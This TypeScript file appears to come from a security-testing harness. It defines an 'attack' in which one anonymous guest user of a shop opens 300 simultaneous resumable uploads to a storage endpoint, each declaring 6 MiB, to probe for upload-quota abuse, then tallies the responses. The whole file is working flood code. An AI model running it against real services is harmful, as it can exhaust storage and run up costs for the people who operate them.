import { ATTACKER, type Attack, anonymousUser, repeat, tally, visitorFrom } from '../attacker.ts';

const STARTS = 300;
const DECLARED_BYTES = 6 * 1024 * 1024;

/** One user starts 300 uploads at the same moment. Together they have 1.8 GB. */
export const attack: Attack = {
  async prepare(url) {
    const { visitor, leave } = visitorFrom(url, ATTACKER, STARTS);
    const user = await anonymousUser(visitor);
    if (!user) throw new Error('The shop makes no guest');
    return async ({ until }) => {
      const timer = setTimeout(leave, until - performance.now());
      const answers: (string | number)[] = [];
      await repeat({ count: STARTS, width: STARTS, until }, async (n) => {
        const name = encodeURIComponent(`avatars/${user.uid}/${n}.png`);
        const reply = await visitor
          .send('POST', `/v0/b/kiosk/o?name=${name}`, {
            headers: {
              authorization: user.authorization,
              'x-goog-upload-protocol': 'resumable',
              'x-goog-upload-command': 'start',
              'x-goog-upload-header-content-length': String(DECLARED_BYTES),
            },
            body: '{"contentType":"image/png"}',
          })
          .catch(() => ({ status: 'unanswered' }));
        answers.push(reply.status);
      });
      clearTimeout(timer);
      leave();
      return `${STARTS} starts of ${DECLARED_BYTES / 1024 / 1024} MiB: ${tally(answers)}`;
    };
  },
};
